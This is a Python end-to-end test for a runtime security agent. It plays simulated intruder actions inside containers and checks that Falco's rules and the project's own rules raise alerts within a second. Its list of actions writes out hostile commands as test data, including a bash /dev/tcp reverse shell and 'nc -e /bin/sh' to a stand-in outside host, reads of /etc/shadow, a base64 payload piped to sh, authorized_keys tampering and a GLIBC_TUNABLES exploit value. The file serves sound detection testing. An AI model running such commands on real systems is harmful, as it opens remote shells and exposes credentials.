#!/usr/bin/env python3
"""Every act of an intruder that others' generators play, in real containers: its rule's alert is at the collector
within a second. Once with Falco's three files as they are, where this machine has them; once with our own."""
import os
import re
import shutil
import subprocess
import sys
import time

from lib import TOP, Skip, main, unix
from stage import KUBERNETES, METADATA, OUTSIDE, UDP_SINK, UPSTREAM, UPSTREAM_FILES, Stage, on_host

WITHIN = 1.0
DISABLED = """Read Shell Configuration File;Interpreted procs inbound network activity
Interpreted procs outbound network activity;Create Hidden Files or Directories;Container Drift Detected (chmod)
Container Drift Detected (open+create);Java Process Class File Download;Modify Container Entrypoint""".replace("\n", ";").split(";")


class Act:
    """where: gen, priv, bb (containers) or host. argv: what is run there. falco, ours: the rules that must tell."""

    def __init__(self, falco, ours, where, *argv, user=None, env=(), tty=False, before=None):
        self.falco, self.ours, self.where, self.argv = falco, ours, where, argv
        self.user, self.env, self.tty, self.before = user, env, tty, before

    def play(self, stage):
        if self.where == "host":
            target = stage.fleet.dir / self.argv[0]
            if not target.exists():
                shutil.copy(stage.act, target)
            return subprocess.run([str(target), *self.argv[1:]], capture_output=True, text=True, preexec_fn=on_host)
        if self.before:
            stage.exec(self.where, *self.before)
        return stage.exec(self.where, *self.argv, user=self.user, env=self.env, tty=self.tty)


def sh(where, script, **more):
    return lambda falco, ours: Act(falco, ours, where, "sh", "-c", script, **more)


D = "mkdir -p /tmp/d"
ACTS = [
    Act("Directory traversal monitored file read", "Sensitive file reached by way of parent folders", "gen",
        "cat", "/etc/../etc/../etc/shadow"),
    Act("Read sensitive file untrusted", "Sensitive file read", "gen", "perl", "-e", 'open F,"/etc/shadow"'),
    Act("Run shell untrusted", "Shell started by a server in a container", "gen", "/opt/httpd", "run", "sh", "-c", "ls"),
    Act("System user interactive", "User of a service works interactively", "gen", "/opt/login", user="daemon"),
    Act("Terminal shell in container", "Terminal shell in a container", "gen", "sh", "-c", "true", tty=True),
    Act("Contact K8S API Server From Container", "Kubernetes API contacted by a tool in a container", "gen",
        "/opt/curl", "connect", KUBERNETES, "443"),
    Act("Netcat Remote Code Execution in Container", "Netcat runs a program in a container", "bb",
        "nc", "-e", "/bin/sh", OUTSIDE, "22"),
    Act("Search Private Keys or Passwords", "Search for keys or passwords", "gen",
        "find", "/tmp", "-maxdepth", "1", "-iname", "id_rsa"),
    Act("Find AWS Credentials", "Search for keys or passwords", "gen",
        "find", "/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"),
    sh("gen", f"{D}; : > /tmp/d/syslog")("Clear Log Activities", "Log emptied or removed"),
    Act("Remove Bulk Data from Disk", "Data removed in bulk", "gen", "shred", "-u", "/tmp/f", before=("touch", "/tmp/f")),
    Act("Create Symlink Over Sensitive Files", "Link to a sensitive file or folder", "gen",
        "ln", "-s", "/etc", "/tmp/d/etc_link"),
    Act("Create Hardlink Over Sensitive Files", "Link to a sensitive file or folder", "gen",
        "ln", "/etc/shadow", "/tmp/d/shadow_link"),
    Act("Packet socket created in container", "Packet socket in a container", "gen", "/opt/act", "packet"),
    Act("Redirect STDOUT/STDIN to Network Connection in Container",
        "Input or output of a program tied to a network connection in a container", "gen",
        "bash", "-c", f"bash -i >& /dev/tcp/{OUTSIDE}/22 0>&1"),
    Act("Linux Kernel Module Injection Detected", "Kernel module loaded from a container", "priv", "/opt/act", "module"),
    Act("Debugfs Launched in Privileged Container", "Debugger of file systems in a container", "priv", "debugfs", "-V"),
    Act("Detect release_agent File Container Escapes", "Cgroup release agent written in a container", "priv",
        "sh", "-c", "cd /tmp; echo hello > release_agent"),
    Act("PTRACE attached to process", "Process taken over by ptrace", "gen", "/opt/act", "attach"),
    Act("PTRACE anti-debug attempt", "Program asks to be traced", "gen", "/opt/act", "traceme"),
    Act("Execution from /dev/shm", "Execution from shared memory", "gen", "sh", "-c", "/dev/shm/x.sh",
        before=("sh", "-c", "echo true > /dev/shm/x.sh; chmod 755 /dev/shm/x.sh")),
    Act("Drop and execute new binary in container", "Program not of the image in a container", "gen", "/usr/bin/dropped",
        before=("cp", "/bin/ls", "/bin/dropped")),
    Act("Disallowed SSH Connection Non Standard Port", "SSH to a port that is not for it", "gen",
        "/opt/ssh", "connect", OUTSIDE, "443"),
    Act("Fileless execution via memfd_create", "Fileless execution", "gen", "/opt/act", "run", "/opt/act", "memfd", "/bin/true"),
    Act("Mount Launched in Privileged Container", "Mount program in a privileged container", "priv", "mount", "-o"),
    Act("Launch Suspicious Network Tool on Host", "Scanner on the host", "host", "nmap", "-sn", "172.17.0.1/32"),
    Act("Launch Suspicious Network Tool in Container", "Scanner or sniffer in a container", "gen",
        "/opt/nmap", "-sn", "192.168.1.0/24"),
    Act("Adding ssh keys to authorized_keys", "Key added to authorized_keys", "gen",
        "sh", "-c", "echo key > /home/u/.ssh/authorized_keys"),
    Act("Read ssh information", "SSH folder read in a container", "gen", "/opt/act", "open", "/home/u/.ssh/known_hosts", "rw"),
    Act("Change namespace privileges via unshare", "Namespace made in a container", "gen", "/opt/act", "unshare"),
    Act("Change thread namespace", "Namespace entered from a container", "gen", "/opt/act", "setns"),
    Act("Contact EC2 Instance Metadata Service From Container", "Metadata service of the cloud contacted from a container",
        "gen", "/opt/act", "connect", METADATA, "80"),
    Act("Contact cloud metadata service from container", "Metadata service of the cloud contacted from a container", "gen",
        "/opt/act", "connect", METADATA, "80"),
    Act("Create files below dev", "File made below /dev in a container", "gen", "touch", "/dev/x"),
    Act("DB program spawned process", "Database started another program", "gen", "/opt/mysqld", "run", "/bin/ls"),
    Act("Delete or rename shell history", "Shell history removed", "gen", "rm", "/tmp/d/ash_history",
        before=("touch", "/tmp/d/ash_history")),
    Act("Launch Package Management Process in Container", "Package manager in a container", "gen", "apt-get", "--version"),
    Act("Launch Ingress Remote File Copy Tools in Container", "Download tool in a container", "bb", "wget", "-V"),
    Act("Launch Remote File Copy Tools in Container", "File copied to or from another machine in a container", "gen", "/opt/scp"),
    Act("Modify Shell Configuration File", "Start file of a shell changed", "gen", "touch", "/tmp/d/.bashrc"),
    Act("Non sudo setuid", "Test setuid by another user", "gen", "/opt/child", "setuid", "1"),
    Act("Potential Local Privilege Escalation via Environment Variables Misuse", "Exploit of sudo, pkexec or the loader", "gen",
        "sh", "-c", "id", env=["GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"]),
    Act("Program run with disallowed http proxy env", "Test a proxy in the environment", "gen", "/opt/curl", "http://example.com",
        env=["HTTP_PROXY=http://my.http.proxy.com"]),
    Act("Read environment variable from /proc files", "Environment of a process read in a container", "gen",
        "cat", "/proc/self/environ"),
    Act("Schedule Cron Jobs", "Crontab in a container", "gen", "/opt/crontab", "-l"),
    Act("Schedule Cron Jobs", "Job for later written", "gen", "touch", "/etc/cron.d/x"),
    Act("Set Setuid or Setgid bit", "Setuid bit set", "gen", "chmod", "u+s", "/tmp/g", before=("touch", "/tmp/g")),
    Act("System procs network activity", "Shell or system tool opens a connection", "gen",
        "/opt/sha1sum", "connect", UDP_SINK, "8192", "udp"),
    Act("Unexpected UDP Traffic", "Test datagrams to an unusual port", "gen", "/opt/nc", "connect", OUTSIDE, "22", "udp"),
    Act("User mgmt binaries", "Account made or changed", "host", "vipw", "run", "/bin/ls"),
    Act("Container Drift Detected (chmod)", "Test a program becomes executable", "gen", "chmod", "755", "/tmp/g"),
    Act("Container Drift Detected (open+create)", "Test a program is created", "gen", "/opt/act", "open", "/tmp/h", "c", "755"),
    Act("Create Hidden Files or Directories", "Test a hidden folder", "gen", "mkdir", "/tmp/.x"),
    sh("gen", "echo bHMK | base64 -d | sh")("Decoding Payload in Container", "Decoded text given to a shell"),
    Act("Detect crypto miners using the Stratum protocol", "Miner of a cryptocurrency", "gen",
        "/bin/echo", "-o stratum+tcp", "-u user", "-p pass"),
    Act("Known Cryptominer Process Executed", "Miner of a cryptocurrency", "gen", "/opt/xmrig"),
    Act(None, "Connection to the port of a mining pool", "gen", "/opt/act", "connect", OUTSIDE, "3333"),
    Act("Interpreted procs inbound network activity", "Test an interpreter accepts a connection", "gen",
        "/opt/lua", "serve-self", OUTSIDE, "9000"),
    Act("Interpreted procs outbound network activity", "Test an interpreter opens a connection", "gen",
        "/opt/lua", "connect", OUTSIDE, "80"),
    Act("Java Process Class File Download", "Test Java receives a class file", "gen", "/opt/java", "datagram-self",
        OUTSIDE, "7000"),
    Act("Kubernetes Client Tool Launched in Container", "Engine or cluster client in a container", "gen", "/opt/kubectl"),
    Act("Mkdir binary dirs", "Folder of programs changed in a container", "gen", "mkdir", "/bin/x"),
    Act("Modify binary dirs", "Folder of programs changed in a container", "gen", "mv", "/bin/true", "/bin/y"),
    Act("Write below binary dir", "Folder of programs changed in a container", "gen", "touch", "/bin/z"),
    Act("Modify Container Entrypoint", "Test output of the container itself written", "gen",
        "/opt/act", "open", "/proc/self/fd/1", "w"),
    Act("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "Exploit of sudo, pkexec or the loader", "gen",
        "/opt/pkexec", user="daemon"),
    Act("Read Shell Configuration File", "Test start file of a shell read", "gen", "cat", "/home/u/.bashrc"),
    Act("Sudo Potential Privilege Escalation", "Exploit of sudo, pkexec or the loader", "gen",
        "/opt/sudoedit", "-u", "daemon", "-s", "ls\\", user="daemon"),
    Act("Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        "Page faults handled in user space without rights", "gen", "/opt/act", "userfaultfd", user="daemon"),
    Act("Write below etc", "Test a file is written in a folder of the system", "gen", "touch", "/etc/x"),
    Act("Write below monitored dir", "Test a file is written in a folder of the system", "gen", "touch", "/lib/x"),
    Act("Write below root", "Test a file is written in a folder of the system", "gen", "touch", "/root/x"),
    Act("Write below rpm database", "Test a file is written in a folder of the system", "gen", "touch", "/var/lib/rpm/x"),
    # slept since the containers were started
    Act("Read sensitive file trusted after startup", "Sensitive file read by a server", "gen", "true"),
]
SLEEPER = ACTS[-1]


def wait_for(stage, rule, since, seconds=3.0):
    """(when it was there, the alert) of the rule's alert seen since, or None."""
    end = time.monotonic() + seconds
    for call, a in stage.fleet.webhook.alerts():  # it may have come before anybody asked
        if a["rule"] == rule and unix(a["last_seen"]) >= since:
            return call["time"], a
    while time.monotonic() < end:
        for a in stage.alerts():
            if a["rule"] == rule and unix(a["last_seen"]) >= since:
                return time.time(), a
        time.sleep(0.02)
    return None


def play(stage, side):
    """Each act and its alert. Returns the rows of the table."""
    rows = []
    started = time.time() - 2
    stage.start_containers()
    for act in ACTS:
        rule = getattr(act, side)
        if not rule or not re.search(os.environ.get("PICKET_ACTS", ""), f"{rule} {' '.join(act.argv)}"):
            continue
        since = started if act is SLEEPER else time.time()
        r = act.play(stage)
        found = wait_for(stage, rule, since, 8 if act is SLEEPER else 3)
        late = found[0] - unix(found[1]["last_seen"]) if found else None
        rows.append((act.where, " ".join(act.argv)[:60], rule, late, "" if found else (r.stderr or r.stdout).strip()[-100:]))
        print(f"{act.where:5}{' '.join(act.argv)[:44]:46}{rule[:58]:60}" + (f"{late:.3f} s" if found else f"MISSING {rows[-1][4]}"))
        sys.stdout.flush()
    return rows


def verdict(rows):
    missing = [(r[1], r[2]) for r in rows if r[3] is None]
    late = [(r[2], f"{r[3]:.2f} s") for r in rows if r[3] is not None and r[3] > WITHIN]
    assert not missing, f"{len(missing)} of {len(rows)} raise nothing: {missing}"
    assert not late, f"later than {WITHIN} s: {late}"
    times = sorted(r[3] for r in rows)
    return f"{len(rows)} of {len(rows)}; act to alert at the collector: median {times[len(times) // 2]:.3f} s, worst {times[-1]:.3f} s"


def with_rules(rules, side):
    stage = Stage()
    try:
        stage.start_agent(rules(stage), hosts=f"{KUBERNETES} kubernetes.default.svc.cluster.local\n")
        return verdict(play(stage, side))
    finally:
        stage.close()


def every_act_raises_the_rule_of_upstreams_three_files():
    missing = [n for n in UPSTREAM_FILES if not (UPSTREAM / n).exists()]
    if missing:
        raise Skip(f"{missing[0]} is not beside the checkout")

    def rules(stage):
        extra = stage.fleet.dir / "enabled.yaml"
        extra.write_text("".join(f'- rule: "{n}"\n  enabled: true\n  override: {{enabled: replace}}\n' for n in DISABLED))
        return [*(UPSTREAM / n for n in UPSTREAM_FILES), extra]
    return with_rules(rules, "falco")


def every_act_raises_a_rule_of_ours():
    return with_rules(lambda stage: [TOP / "agent/packaging/rules.d", TOP / "tests/e2e/generator_rules.yaml"], "ours")


if __name__ == "__main__":
    main(every_act_raises_the_rule_of_upstreams_three_files, every_act_raises_a_rule_of_ours)
